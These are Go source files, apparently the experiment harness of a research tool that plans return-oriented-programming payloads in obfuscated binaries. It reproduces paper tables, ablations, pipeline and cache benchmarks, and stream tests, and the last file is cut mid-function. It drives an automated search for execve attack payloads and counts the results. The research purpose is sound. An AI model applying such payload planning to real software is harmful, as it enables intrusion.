func AblationSubsumption(opts Options) ([]AblationSubsumptionRow, error) {
	opts = opts.withDefaults()
	b := NewBuilder(opts.Seed)
	var rows []AblationSubsumptionRow
	for _, p := range opts.Programs {
		bin, err := b.Build(p, Configs()[1]) // LLVM-Obf
		if err != nil {
			return nil, err
		}
		raw := gadget.Extract(bin, gadget.Options{})
		min, stats := subsume.Minimize(raw, subsume.Options{})
		_ = min

		cfgWith := core.Config{Planner: opts.Planner}
		cfgWithout := core.Config{Planner: opts.Planner, SkipSubsume: true}

		aWith := core.Analyze(bin, cfgWith)
		start := time.Now()
		aWith.FindPayloads(plannerExecve())
		with := time.Since(start)

		aWithout := core.Analyze(bin, cfgWithout)
		start = time.Now()
		aWithout.FindPayloads(plannerExecve())
		without := time.Since(start)

		rows = append(rows, AblationSubsumptionRow{
			Program:         p.Name,
			PoolBefore:      stats.Before,
			PoolAfter:       stats.After,
			ReductionFactor: stats.ReductionFactor(),
			PlanTimeWith:    with,
			PlanTimeWithout: without,
		})
	}
	return rows, nil
}

// RenderAblationSubsumption prints the ablation.
func RenderAblationSubsumption(rows []AblationSubsumptionRow) string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "%-14s %8s %8s %8s %12s %12s\n",
		"Program", "Before", "After", "Factor", "Plan(with)", "Plan(w/o)")
	for _, r := range rows {
		fmt.Fprintf(&sb, "%-14s %8d %8d %7.2fx %12s %12s\n",
			r.Program, r.PoolBefore, r.PoolAfter, r.ReductionFactor,
			r.PlanTimeWith.Round(time.Millisecond), r.PlanTimeWithout.Round(time.Millisecond))
	}
	return sb.String()
}

// AblationClassesRow reports payload counts when gadget classes are removed
// from the pool (DESIGN.md E10).
type AblationClassesRow struct {
	Config   string
	Payloads int
}

// AblationGadgetClasses disables gadget classes one at a time on an
// obfuscated program.
func AblationGadgetClasses(opts Options) ([]AblationClassesRow, error) {
	opts = opts.withDefaults()
	b := NewBuilder(opts.Seed)
	p := opts.Programs[0]
	bin, err := b.Build(p, Configs()[1])
	if err != nil {
		return nil, err
	}
	configs := []struct {
		name   string
		filter func(*gadget.Gadget) bool
	}{
		{"all-classes", nil},
		{"no-conditional", func(g *gadget.Gadget) bool { return !g.HasCond }},
		{"no-merged-dj", func(g *gadget.Gadget) bool { return !g.Merged }},
		{"no-indirect", func(g *gadget.Gadget) bool {
			return g.JmpType != gadget.TypeUIJ && g.JmpType != gadget.TypeCIJ
		}},
		{"no-deref", func(g *gadget.Gadget) bool { return !g.Effect.HasDerefs() }},
		{"return-only", func(g *gadget.Gadget) bool {
			return g.JmpType == gadget.TypeReturn && !g.HasCond && !g.Merged &&
				!g.Effect.HasDerefs() || g.JmpType == gadget.TypeSyscall
		}},
	}
	var rows []AblationClassesRow
	for _, cfg := range configs {
		a := core.Analyze(bin, core.Config{Planner: opts.Planner, GadgetFilter: cfg.filter})
		rows = append(rows, AblationClassesRow{
			Config:   cfg.name,
			Payloads: core.TotalPayloads(a.FindAll()),
		})
	}
	return rows, nil
}

// RenderAblationClasses prints the class ablation.
func RenderAblationClasses(rows []AblationClassesRow) string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "%-16s %10s\n", "Pool", "Payloads")
	for _, r := range rows {
		fmt.Fprintf(&sb, "%-16s %10d\n", r.Config, r.Payloads)
	}
	return sb.String()
}
