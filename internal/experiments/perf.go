package experiments

import (
	"fmt"
	"strings"
	"time"

	"github.com/nofreelunch/gadget-planner/internal/baseline/angrop"
	"github.com/nofreelunch/gadget-planner/internal/baseline/sgc"
	"github.com/nofreelunch/gadget-planner/internal/benchprog"
	"github.com/nofreelunch/gadget-planner/internal/core"
	"github.com/nofreelunch/gadget-planner/internal/gadget"
	"github.com/nofreelunch/gadget-planner/internal/pipeline"
	"github.com/nofreelunch/gadget-planner/internal/planner"
)

// Table7Row is one (tool, stage) performance entry (paper Table VII: the
// obfuscated netperf analysis).
type Table7Row struct {
	Tool    string
	Stage   string
	Seconds float64
	AllocMB float64
	// Cached marks a stage served from the artifact store; Seconds is then
	// the recorded cost of the original computation, not this run's lookup.
	Cached bool
}

// Table7 measures per-stage time and allocation on obfuscated netperf-sim.
// Timing-sensitive: the tools run sequentially on purpose — concurrent cells
// would contend for cores and distort every wall-clock number. The netperf
// build and the staged analysis run through the artifact store — timings
// stay meaningful because stage rows report artifact compute cost (a hit
// reports the original computation's cost and is marked Cached).
func Table7(opts Options) ([]Table7Row, error) {
	opts = opts.withDefaults()
	bin, err := opts.build(benchprog.Netperf(), Configs()[1]) // LLVM-Obf
	if err != nil {
		return nil, err
	}
	var rows []Table7Row

	// Angrop.
	start := time.Now()
	(&angrop.Tool{}).Run(bin)
	rows = append(rows, Table7Row{Tool: "Angrop", Stage: "total", Seconds: time.Since(start).Seconds()})

	// SGC.
	start = time.Now()
	(&sgc.Tool{}).Run(bin)
	rows = append(rows, Table7Row{Tool: "SGC", Stage: "total", Seconds: time.Since(start).Seconds()})

	// Gadget-Planner, staged.
	a := core.Analyze(bin, core.Config{Planner: opts.Planner, Store: opts.Store})
	a.FindAll()
	var gpTotal float64
	for _, t := range a.Timings {
		row := Table7Row{
			Tool:    "Gadget-Planner",
			Stage:   t.Name,
			Seconds: t.Duration.Seconds(),
			AllocMB: float64(t.AllocBytes) / (1 << 20),
			Cached:  t.Cached,
		}
		gpTotal += row.Seconds
		rows = append(rows, row)
	}
	rows = append(rows, Table7Row{Tool: "Gadget-Planner", Stage: "total", Seconds: gpTotal})
	return rows, nil
}

// plannerExecve returns the execve goal (helper keeping import usage tidy).
func plannerExecve() planner.Goal { return planner.ExecveGoal() }

// RenderTable7 prints Table VII.
func RenderTable7(rows []Table7Row) string {
	defer pipeline.TrackWall("render")()
	var sb strings.Builder
	fmt.Fprintf(&sb, "%-15s %-20s %10s %10s\n", "Tool", "Stage", "Time(s)", "Alloc(MB)")
	for _, r := range rows {
		mark := ""
		if r.Cached {
			mark = " (cached)"
		}
		fmt.Fprintf(&sb, "%-15s %-20s %10.3f %10.1f%s\n", r.Tool, r.Stage, r.Seconds, r.AllocMB, mark)
	}
	return sb.String()
}

// AblationSubsumptionRow reports stage-2's effect (paper Section VI-D:
// "reduce the set of gadgets by an average factor of 2.97").
type AblationSubsumptionRow struct {
	Program         string
	PoolBefore      int
	PoolAfter       int
	ReductionFactor float64
	PlanTimeWith    time.Duration
	PlanTimeWithout time.Duration
}

// AblationSubsumption compares planning with and without pool minimization.
// Timing-sensitive (it reports plan times), so programs run sequentially.
// Builds and analyses run through the artifact store; the reported plan
// times are the planning stage's artifact compute cost, which a warm store
// reproduces instead of re-measuring.
func AblationSubsumption(opts Options) ([]AblationSubsumptionRow, error) {
	opts = opts.withDefaults()
	var rows []AblationSubsumptionRow
	for _, p := range opts.Programs {
		bin, err := opts.build(p, Configs()[1]) // LLVM-Obf
		if err != nil {
			return nil, err
		}
		cfgWith := core.Config{Planner: opts.Planner, Store: opts.Store}
		cfgWithout := core.Config{Planner: opts.Planner, SkipSubsume: true, Store: opts.Store}

		aWith := core.Analyze(bin, cfgWith)
		aWith.FindPayloads(plannerExecve())
		with := planTime(aWith.Timings)

		aWithout := core.Analyze(bin, cfgWithout)
		aWithout.FindPayloads(plannerExecve())
		without := planTime(aWithout.Timings)

		rows = append(rows, AblationSubsumptionRow{
			Program:         p.Name,
			PoolBefore:      aWith.SubsumeStats.Before,
			PoolAfter:       aWith.SubsumeStats.After,
			ReductionFactor: aWith.SubsumeStats.ReductionFactor(),
			PlanTimeWith:    with,
			PlanTimeWithout: without,
		})
	}
	return rows, nil
}

// planTime sums the planning-stage rows of an analysis's timing table.
func planTime(timings []core.StageTiming) time.Duration {
	var d time.Duration
	for _, t := range timings {
		if strings.HasPrefix(t.Name, "planning:") {
			d += t.Duration
		}
	}
	return d
}

// RenderAblationSubsumption prints the ablation.
func RenderAblationSubsumption(rows []AblationSubsumptionRow) string {
	defer pipeline.TrackWall("render")()
	var sb strings.Builder
	fmt.Fprintf(&sb, "%-14s %8s %8s %8s %12s %12s\n",
		"Program", "Before", "After", "Factor", "Plan(with)", "Plan(w/o)")
	for _, r := range rows {
		fmt.Fprintf(&sb, "%-14s %8d %8d %7.2fx %12s %12s\n",
			r.Program, r.PoolBefore, r.PoolAfter, r.ReductionFactor,
			r.PlanTimeWith.Round(time.Millisecond), r.PlanTimeWithout.Round(time.Millisecond))
	}
	return sb.String()
}

// AblationClassesRow reports payload counts when gadget classes are removed
// from the pool (DESIGN.md E10).
type AblationClassesRow struct {
	Config   string
	Payloads int
}

// AblationGadgetClasses disables gadget classes one at a time on an
// obfuscated program.
func AblationGadgetClasses(opts Options) ([]AblationClassesRow, error) {
	opts = opts.withDefaults()
	p := opts.Programs[0]
	bin, err := opts.build(p, Configs()[1])
	if err != nil {
		return nil, err
	}
	configs := []struct {
		name   string
		filter func(*gadget.Gadget) bool
	}{
		{"all-classes", nil},
		{"no-conditional", func(g *gadget.Gadget) bool { return !g.HasCond }},
		{"no-merged-dj", func(g *gadget.Gadget) bool { return !g.Merged }},
		{"no-indirect", func(g *gadget.Gadget) bool {
			return g.JmpType != gadget.TypeUIJ && g.JmpType != gadget.TypeCIJ
		}},
		{"no-deref", func(g *gadget.Gadget) bool { return !g.Effect.HasDerefs() }},
		{"return-only", func(g *gadget.Gadget) bool {
			return g.JmpType == gadget.TypeReturn && !g.HasCond && !g.Merged &&
				!g.Effect.HasDerefs() || g.JmpType == gadget.TypeSyscall
		}},
	}
	var rows []AblationClassesRow
	for _, cfg := range configs {
		a := core.Analyze(bin, core.Config{Planner: opts.Planner, GadgetFilter: cfg.filter, Store: opts.Store})
		rows = append(rows, AblationClassesRow{
			Config:   cfg.name,
			Payloads: core.TotalPayloads(a.FindAll()),
		})
	}
	return rows, nil
}

// RenderAblationClasses prints the class ablation.
func RenderAblationClasses(rows []AblationClassesRow) string {
	defer pipeline.TrackWall("render")()
	var sb strings.Builder
	fmt.Fprintf(&sb, "%-16s %10s\n", "Pool", "Payloads")
	for _, r := range rows {
		fmt.Fprintf(&sb, "%-16s %10d\n", r.Config, r.Payloads)
	}
	return sb.String()
}

// PipelineBenchStage is one analysis stage's cost at one parallelism setting
// (a BENCH_PIPELINE.json entry).
type PipelineBenchStage struct {
	Stage      string  `json:"stage"`
	Seconds    float64 `json:"seconds"`
	AllocBytes uint64  `json:"alloc_bytes"`
}

// PipelineBench is the machine-readable parallel-pipeline benchmark: the
// obfuscated netperf-sim analysis at Parallelism=1 versus Parallelism=N,
// with per-stage wall time and allocation, speedups, and a determinism
// cross-check of the two runs' pools.
type PipelineBench struct {
	Program        string               `json:"program"`
	Parallelism    int                  `json:"parallelism"`
	Serial         []PipelineBenchStage `json:"serial"`
	Parallel       []PipelineBenchStage `json:"parallel"`
	ExtractSpeedup float64              `json:"extract_speedup"`
	SubsumeSpeedup float64              `json:"subsume_speedup"`
	TotalSpeedup   float64              `json:"total_speedup"`
	PoolsIdentical bool                 `json:"pools_identical"`
	RawPoolSize    int                  `json:"raw_pool_size"`
	PoolSize       int                  `json:"pool_size"`
}

// benchStages converts stage timings to JSON rows.
func benchStages(timings []core.StageTiming) []PipelineBenchStage {
	out := make([]PipelineBenchStage, 0, len(timings))
	for _, t := range timings {
		out = append(out, PipelineBenchStage{
			Stage:      t.Name,
			Seconds:    t.Duration.Seconds(),
			AllocBytes: t.AllocBytes,
		})
	}
	return out
}

func stageSeconds(stages []PipelineBenchStage, name string) float64 {
	for _, s := range stages {
		if s.Stage == name {
			return s.Seconds
		}
	}
	return 0
}

func speedup(serial, parallel float64) float64 {
	if parallel <= 0 {
		return 0
	}
	return serial / parallel
}

// PoolSignature renders a pool to a canonical string: every gadget's
// location, shape, and rendered conditions, in pool order. Two pools with
// equal signatures are byte-identical for all downstream consumers.
func PoolSignature(p *gadget.Pool) string {
	var sb strings.Builder
	for _, g := range p.Gadgets {
		fmt.Fprintf(&sb, "%#x/%d/%s/%d/%d/%d:", g.Location, g.Len, g.JmpType,
			g.NumInsts(), g.Effect.StackDelta, g.Effect.End)
		for _, c := range g.Effect.Conds {
			sb.WriteString(c.String())
			sb.WriteByte(';')
		}
		if g.Effect.NextRIP != nil {
			sb.WriteString("->" + g.Effect.NextRIP.String())
		}
		sb.WriteByte('\n')
	}
	return sb.String()
}

// BenchPipeline times the analysis pipeline (extraction + subsumption) on
// obfuscated netperf-sim at Parallelism=1 and Parallelism=opts.Parallelism,
// and cross-checks that both runs produce identical pools. cmd/experiments
// writes the result as BENCH_PIPELINE.json. The netperf build goes through
// the artifact store (shared with Table7), but the two analyses
// deliberately bypass it — serving either arm from a cached pool would
// reduce the A/B comparison to a pair of store lookups.
func BenchPipeline(opts Options) (*PipelineBench, error) {
	opts = opts.withDefaults()
	prog := benchprog.Netperf()
	bin, err := opts.build(prog, Configs()[1]) // LLVM-Obf
	if err != nil {
		return nil, err
	}

	serial := core.Analyze(bin, core.Config{Parallelism: 1})
	parallel := core.Analyze(bin, core.Config{Parallelism: opts.Parallelism})

	res := &PipelineBench{
		Program:     prog.Name,
		Parallelism: opts.Parallelism,
		Serial:      benchStages(serial.Timings),
		Parallel:    benchStages(parallel.Timings),
		RawPoolSize: parallel.RawPool.Size(),
		PoolSize:    parallel.Pool.Size(),
	}
	res.ExtractSpeedup = speedup(stageSeconds(res.Serial, "extraction"),
		stageSeconds(res.Parallel, "extraction"))
	res.SubsumeSpeedup = speedup(stageSeconds(res.Serial, "subsumption"),
		stageSeconds(res.Parallel, "subsumption"))
	var sTot, pTot float64
	for _, s := range res.Serial {
		sTot += s.Seconds
	}
	for _, s := range res.Parallel {
		pTot += s.Seconds
	}
	res.TotalSpeedup = speedup(sTot, pTot)
	res.PoolsIdentical = PoolSignature(serial.RawPool) == PoolSignature(parallel.RawPool) &&
		PoolSignature(serial.Pool) == PoolSignature(parallel.Pool) &&
		serial.SubsumeStats.After == parallel.SubsumeStats.After
	return res, nil
}

// RenderPipelineBench prints the benchmark as a table.
func RenderPipelineBench(b *PipelineBench) string {
	defer pipeline.TrackWall("render")()
	var sb strings.Builder
	fmt.Fprintf(&sb, "pipeline bench: %s (parallelism %d, pools identical: %v)\n",
		b.Program, b.Parallelism, b.PoolsIdentical)
	fmt.Fprintf(&sb, "%-14s %12s %12s %9s\n", "Stage", "Serial(s)", "Parallel(s)", "Speedup")
	for _, s := range b.Serial {
		fmt.Fprintf(&sb, "%-14s %12.3f %12.3f %8.2fx\n",
			s.Stage, s.Seconds, stageSeconds(b.Parallel, s.Stage),
			speedup(s.Seconds, stageSeconds(b.Parallel, s.Stage)))
	}
	fmt.Fprintf(&sb, "%-14s %38.2fx\n", "total", b.TotalSpeedup)
	return sb.String()
}
