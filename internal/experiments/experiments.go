// Package experiments reproduces every table and figure of the paper's
// evaluation (Section III and VI) as deterministic, structured experiments:
// Fig. 1 (gadget counts), Table I (gadget classes), Table IV (tool
// comparison), Table V (chain properties), Fig. 5 (per-obfuscation risk),
// Table VI (SPEC-style programs), Table VII (per-stage performance), the
// netperf case study (Section VI-C), and the ablations DESIGN.md calls out.
//
// Absolute numbers differ from the paper (the substrate is a from-scratch
// toolchain and emulator, not gcc binaries on hardware); the experiments
// reproduce the paper's *shapes*: who wins, by what rough factor, and which
// obfuscations carry the most risk.
package experiments

import (
	"bytes"
	"fmt"
	"runtime"
	"sync"
	"time"

	"github.com/nofreelunch/gadget-planner/internal/benchprog"
	"github.com/nofreelunch/gadget-planner/internal/core"
	"github.com/nofreelunch/gadget-planner/internal/gadget"
	"github.com/nofreelunch/gadget-planner/internal/obfuscate"
	"github.com/nofreelunch/gadget-planner/internal/pipeline"
	"github.com/nofreelunch/gadget-planner/internal/planner"
	"github.com/nofreelunch/gadget-planner/internal/sbf"
)

// ObfConfig names an obfuscation configuration.
type ObfConfig struct {
	Name   string
	Passes func() []obfuscate.Pass
}

// Configs returns the paper's three build configurations.
func Configs() []ObfConfig {
	return []ObfConfig{
		{Name: "Original", Passes: func() []obfuscate.Pass { return nil }},
		{Name: "LLVM-Obf", Passes: obfuscate.LLVMObf},
		{Name: "Tigress", Passes: obfuscate.Tigress},
	}
}

// Options scope an experiment run.
type Options struct {
	// Programs to include; default benchprog.Benchmarks().
	Programs []benchprog.Program
	// Seed for deterministic obfuscation.
	Seed int64
	// Planner budget per goal.
	Planner planner.Options
	// Quick trims the corpus to three programs for fast smoke runs.
	Quick bool
	// Parallelism is how many experiment cells (program × configuration
	// units of work) run concurrently, and is forwarded to the analysis
	// pipeline's Parallelism knob. 0 = runtime.GOMAXPROCS(0), 1 = serial.
	// Table results are identical at every setting.
	Parallelism int
	// Store is the content-addressed artifact store every build and
	// analysis stage runs through. Nil gets a fresh private store, so each
	// experiment still dedups its own cells; callers running several
	// experiments (cmd/experiments) pass one store to share builds and
	// pools across them. pipeline.NewDisabledStore() gives the -nocache
	// A/B arm. Table results are byte-identical whichever store is used.
	Store *pipeline.Store
}

func (o Options) withDefaults() Options {
	if o.Store == nil {
		o.Store = pipeline.NewStore()
	}
	if o.Programs == nil {
		o.Programs = benchprog.Benchmarks()
	}
	if o.Quick && len(o.Programs) > 3 {
		o.Programs = o.Programs[:3]
	}
	if o.Seed == 0 {
		o.Seed = 42
	}
	if o.Planner.MaxPlans == 0 {
		o.Planner.MaxPlans = 200
	}
	if o.Planner.MaxNodes == 0 {
		o.Planner.MaxNodes = 10000
	}
	if o.Planner.Timeout == 0 {
		o.Planner.Timeout = 20 * time.Second
	}
	if o.Parallelism <= 0 {
		o.Parallelism = runtime.GOMAXPROCS(0)
	}
	return o
}

// pipelineParallelism decides each cell's core.Config.Parallelism: when the
// experiment fans cells out, each cell's pipeline runs single-threaded (the
// cores are already busy with sibling cells); a serial cell loop hands the
// pipeline the full budget instead.
func (o Options) pipelineParallelism(cells int) int {
	if cells > 1 && o.Parallelism > 1 {
		return 1
	}
	return o.Parallelism
}

// runCells executes fn(0..n-1) on up to `workers` goroutines and returns the
// lowest-index error (so failures are reported deterministically). Cells must
// write results into index-addressed slots, never append to shared state.
func runCells(workers, n int, fn func(i int) error) error {
	errs := make([]error, n)
	if workers > n {
		workers = n
	}
	if workers <= 1 {
		for i := 0; i < n; i++ {
			errs[i] = fn(i)
		}
	} else {
		next := make(chan int)
		var wg sync.WaitGroup
		for w := 0; w < workers; w++ {
			wg.Add(1)
			go func() {
				defer wg.Done()
				for i := range next {
					errs[i] = fn(i)
				}
			}()
		}
		for i := 0; i < n; i++ {
			next <- i
		}
		close(next)
		wg.Wait()
	}
	for _, err := range errs {
		if err != nil {
			return err
		}
	}
	return nil
}

// build compiles (program, configuration) through the artifact store: the
// binary is keyed by source content, pass names, and seed, so concurrent
// cells — and sibling experiments sharing the store — compile each
// configuration exactly once.
func (o Options) build(p benchprog.Program, cfg ObfConfig) (*sbf.Binary, error) {
	bin, err := pipeline.Build(o.Store, p, cfg.Passes(), o.Seed)
	if err != nil {
		return nil, fmt.Errorf("experiments: build %s|%s: %w", p.Name, cfg.Name, err)
	}
	return bin, nil
}

// gadgetChunks slices the gadget's contiguous instruction-run bytes out of
// its source binary. Direct branches are excluded: their displacement bytes
// are position-dependent and would differ across builds even for identical
// logical gadgets.
func gadgetChunks(src *sbf.Binary, g *gadget.Gadget) [][]byte {
	var chunks [][]byte
	var cur []byte
	var lastEnd uint64
	flush := func() {
		if len(cur) > 0 {
			chunks = append(chunks, cur)
			cur = nil
		}
	}
	for i, st := range g.Steps {
		if st.Inst.IsDirectBranch() {
			flush()
			lastEnd = 0
			continue
		}
		if i > 0 && st.Inst.Addr != lastEnd {
			flush()
		}
		sec := src.SectionAt(st.Inst.Addr)
		if sec == nil {
			flush()
			continue
		}
		off := st.Inst.Addr - sec.Addr
		cur = append(cur, sec.Data[off:off+uint64(st.Inst.Len)]...)
		lastEnd = st.Inst.End()
	}
	flush()
	return chunks
}

// IsNewGadget reports whether the gadget's code does not occur anywhere in
// the original binary — i.e. the obfuscator introduced it (the basis for
// Table IV's parenthesized "newly introduced" counts).
func IsNewGadget(src *sbf.Binary, g *gadget.Gadget, origText []byte) bool {
	for _, chunk := range gadgetChunks(src, g) {
		if !bytes.Contains(origText, chunk) {
			return true
		}
	}
	return false
}

// NewPayloads counts attack payloads whose chain relies on at least one
// obfuscation-introduced gadget.
func NewPayloads(src *sbf.Binary, attacks map[string]*core.Attack, origText []byte) int {
	n := 0
	for _, atk := range attacks {
		for _, pl := range atk.Payloads {
			for _, g := range pl.Chain {
				if IsNewGadget(src, g, origText) {
					n++
					break
				}
			}
		}
	}
	return n
}

// origTextOf builds the original binary and returns its text bytes.
func origTextOf(o Options, p benchprog.Program) ([]byte, error) {
	orig, err := o.build(p, Configs()[0])
	if err != nil {
		return nil, err
	}
	sec := orig.Section(".text")
	if sec == nil {
		return nil, fmt.Errorf("experiments: %s has no text", p.Name)
	}
	return sec.Data, nil
}

// poolOf extracts the full gadget pool of a binary (test/diagnostic helper).
func poolOf(bin *sbf.Binary) *gadget.Pool {
	return gadget.Extract(bin, gadget.Options{})
}
