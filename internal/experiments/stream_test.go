package experiments

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"testing"
	"time"

	"github.com/nofreelunch/gadget-planner/internal/pipeline"
	"github.com/nofreelunch/gadget-planner/internal/planner"
)

// streamTestOpts keeps stream-test cells cheap: two generated programs
// (12 cells) under a tiny planning budget.
func streamTestOpts() StreamOptions {
	return StreamOptions{
		Cells: 2 * cellsPerProgram(),
		Seed:  400,
		Planner: planner.Options{
			MaxPlans: 1,
			MaxNodes: 300,
			Timeout:  10 * time.Second,
		},
	}
}

// TestStreamTablesIdentical pins the streaming runner's determinism
// contract: the aggregate table renders byte-identically at parallelism
// 1/2/8, with the artifact store on (memory tier bounded so the LRU
// evictor cycles mid-run) and off.
func TestStreamTablesIdentical(t *testing.T) {
	type arm struct {
		name    string
		par     int
		caching bool
	}
	arms := []arm{
		{"p1-store", 1, true},
		{"p2-store", 2, true},
		{"p8-store", 8, true},
		{"p1-nostore", 1, false},
		{"p8-nostore", 8, false},
	}
	var ref string
	var refEvictions int64
	for i, a := range arms {
		opts := streamTestOpts()
		opts.Parallelism = a.par
		if a.caching {
			// A budget far below the ~30 artifacts two programs produce,
			// so determinism is checked under live eviction pressure.
			opts.Store = pipeline.NewStore().LimitMemory(6)
		} else {
			opts.Store = pipeline.NewDisabledStore()
		}
		run, err := RunStream(opts)
		if err != nil {
			t.Fatalf("%s: %v", a.name, err)
		}
		if run.OutputFailures != 0 {
			t.Errorf("%s: %d output-stability failures", a.name, run.OutputFailures)
		}
		if i == 0 {
			ref = run.Table
			refEvictions = opts.Store.MemEvictions()
			if ref == "" {
				t.Fatal("empty aggregate table")
			}
			continue
		}
		if run.Table != ref {
			t.Errorf("%s: aggregate table differs from %s\n%s", a.name, arms[0].name,
				diffHint(ref, run.Table))
		}
	}
	if refEvictions == 0 {
		t.Error("bounded memory tier never evicted; budget not binding")
	}
}

// TestStreamRowsOrdered pins the JSONL contract: one row per cell, emitted
// in cell order regardless of worker interleaving, with the deterministic
// fields populated per arm.
func TestStreamRowsOrdered(t *testing.T) {
	var buf bytes.Buffer
	opts := streamTestOpts()
	opts.Parallelism = 8
	opts.Rows = &buf
	run, err := RunStream(opts)
	if err != nil {
		t.Fatal(err)
	}
	dec := json.NewDecoder(&buf)
	n := 0
	for dec.More() {
		var row StreamRow
		if err := dec.Decode(&row); err != nil {
			t.Fatalf("row %d: %v", n, err)
		}
		if row.Cell != n {
			t.Fatalf("row %d arrived out of order (cell %d)", n, row.Cell)
		}
		if row.Program == "" || row.Class == "" || row.Obf == "" {
			t.Errorf("row %d: missing identity fields: %+v", n, row)
		}
		switch row.Arm {
		case armScan:
			if row.Gadgets <= 0 || row.Pool <= 0 {
				t.Errorf("row %d: scan arm missing counts: %+v", n, row)
			}
			if !row.OutputOK {
				t.Errorf("row %d: output-stability check failed: %+v", n, row)
			}
		case armPlan:
			if row.Pool <= 0 {
				t.Errorf("row %d: plan arm missing pool: %+v", n, row)
			}
		default:
			t.Errorf("row %d: unknown arm %q", n, row.Arm)
		}
		n++
	}
	if n != run.Cells {
		t.Errorf("rows written = %d, want %d", n, run.Cells)
	}
	if run.RowsWritten != n {
		t.Errorf("RowsWritten = %d, want %d", run.RowsWritten, n)
	}
}

// TestStreamCancel pins the cancellation contract: a canceled context
// stops the run promptly and surfaces context.Canceled, and a context
// canceled mid-run (after the first result) still terminates cleanly.
func TestStreamCancel(t *testing.T) {
	// Already-canceled context: no cell should complete.
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	opts := streamTestOpts()
	opts.Ctx = ctx
	opts.Parallelism = 2
	if _, err := RunStream(opts); !errors.Is(err, context.Canceled) {
		t.Fatalf("pre-canceled run returned %v, want context.Canceled", err)
	}

	// Cancel after the first rows flow: the runner must stop and report it.
	ctx, cancel = context.WithCancel(context.Background())
	opts = streamTestOpts()
	opts.Cells = 8 * cellsPerProgram()
	opts.Ctx = ctx
	opts.Parallelism = 2
	opts.Rows = cancelAfterWriter{cancel: cancel}
	if _, err := RunStream(opts); !errors.Is(err, context.Canceled) {
		t.Fatalf("mid-run cancel returned %v, want context.Canceled", err)
	}
}

// cancelAfterWriter cancels its context on the first JSONL row, from the
// collector goroutine — a mid-run cancellation at a deterministic point.
type cancelAfterWriter struct{ cancel context.CancelFunc }

func (w cancelAfterWriter) Write(p []byte) (int, error) {
	w.cancel()
	return len(p), nil
}

// TestBenchStreamQuick runs the full benchmark harness on a small corpus
// and checks its structural invariants (not timing): per-arm table
// identity, disk-evictor cycling in the starved arm, and a sane record.
func TestBenchStreamQuick(t *testing.T) {
	if testing.Short() {
		t.Skip("bench harness is slow; skipped in -short")
	}
	opts := streamTestOpts()
	opts.Cells = 4 * cellsPerProgram() // eviction arm = 1 program
	var rows bytes.Buffer
	opts.Rows = &rows
	b, err := BenchStream(opts, 64<<10)
	if err != nil {
		t.Fatal(err)
	}
	if !b.TablesIdentical {
		t.Error("warm-arm tables differ from cold pass")
	}
	if !b.EvictTablesIdentical {
		t.Error("starved-disk arm table differs from store-free reference")
	}
	if b.EvictEvictions == 0 {
		t.Error("starved disk budget produced no evictions")
	}
	if b.OutputFailures != 0 {
		t.Errorf("output-stability failures: %d", b.OutputFailures)
	}
	if b.Cells != opts.Cells || b.Programs != 4 {
		t.Errorf("cells/programs = %d/%d, want %d/4", b.Cells, b.Programs, opts.Cells)
	}
	if rows.Len() == 0 {
		t.Error("cold pass wrote no JSONL rows")
	}
	if b.WarmHitRate <= 0.5 {
		t.Errorf("warm hit rate %.2f; expected mostly store-served", b.WarmHitRate)
	}
	if s := RenderStreamBench(b); s == "" {
		t.Error("empty benchmark rendering")
	}
}
