package experiments

import (
	"fmt"
	"strings"
	"time"

	"github.com/nofreelunch/gadget-planner/internal/pipeline"
)

// CacheBench is the machine-readable artifact-store benchmark
// (BENCH_CACHE.json): the deterministic experiment suite run twice against
// one store — a cold pass that populates it and a warm pass served from it
// — with suite wall-times, per-stage hit/miss/compute breakdowns, and a
// byte-identity cross-check of every rendered table.
type CacheBench struct {
	Quick       bool    `json:"quick"`
	ColdSeconds float64 `json:"cold_seconds"`
	WarmSeconds float64 `json:"warm_seconds"`
	Speedup     float64 `json:"speedup"`

	// ColdStages is the store's per-stage view after the cold pass. Hits
	// here are *cross-experiment* sharing within one suite run: fig1 and
	// table1 scanning the same build, table4 and composition reusing one
	// extraction, and so on.
	ColdStages []pipeline.StageStats `json:"cold_stages"`
	// WarmStages is the warm pass's own per-stage delta (warm totals minus
	// cold totals).
	WarmStages []pipeline.StageStats `json:"warm_stages"`
	// CrossExperimentHits counts artifacts served from the store during
	// the cold pass — reuse between sibling experiments, not between runs.
	CrossExperimentHits int64 `json:"cross_experiment_hits"`
	// WarmHitRate is the warm pass's overall hit fraction.
	WarmHitRate float64 `json:"warm_hit_rate"`
	// TablesIdentical reports that every rendered table of the warm pass
	// is byte-identical to the cold pass's.
	TablesIdentical bool `json:"tables_identical"`
}

// CacheSuite runs the deterministic table experiments — Fig. 1, Table I,
// Table IV/V, and the pool-composition table — against opts.Store and
// returns their concatenated renderings. These four share builds, gadget
// scans, extractions, and minimized pools, so they exercise every cacheable
// stage; the timing-sensitive benches are excluded because their output
// embeds wall-clock numbers that can never be byte-compared.
func CacheSuite(opts Options) (string, error) {
	var sb strings.Builder

	fig1, err := Fig1(opts)
	if err != nil {
		return "", err
	}
	sb.WriteString(RenderFig1(fig1))

	t1, err := Table1(opts)
	if err != nil {
		return "", err
	}
	sb.WriteString(RenderTable1(t1))

	t4, gp, err := Table4(opts)
	if err != nil {
		return "", err
	}
	sb.WriteString(RenderTable4(t4))
	sb.WriteString(RenderTable5(Table5(gp)))

	comp, err := PoolComposition(opts)
	if err != nil {
		return "", err
	}
	sb.WriteString(RenderPoolComposition(comp))
	return sb.String(), nil
}

// BenchCache measures the artifact store on the deterministic suite: one
// cold pass that fills the store, one warm pass served from it.
// cmd/experiments writes the result as BENCH_CACHE.json.
func BenchCache(opts Options) (*CacheBench, error) {
	opts = opts.withDefaults()
	opts.Store = pipeline.NewStore() // private store: cold means cold

	start := time.Now()
	cold, err := CacheSuite(opts)
	if err != nil {
		return nil, err
	}
	coldSecs := time.Since(start).Seconds()
	coldStats := opts.Store.Stats()

	start = time.Now()
	warm, err := CacheSuite(opts)
	if err != nil {
		return nil, err
	}
	warmSecs := time.Since(start).Seconds()
	warmStats := statsDelta(opts.Store.Stats(), coldStats)

	res := &CacheBench{
		Quick:           opts.Quick,
		ColdSeconds:     coldSecs,
		WarmSeconds:     warmSecs,
		Speedup:         speedup(coldSecs, warmSecs),
		ColdStages:      coldStats,
		WarmStages:      warmStats,
		TablesIdentical: cold == warm,
	}
	var warmHits, warmTotal int64
	for _, s := range coldStats {
		res.CrossExperimentHits += s.Hits
	}
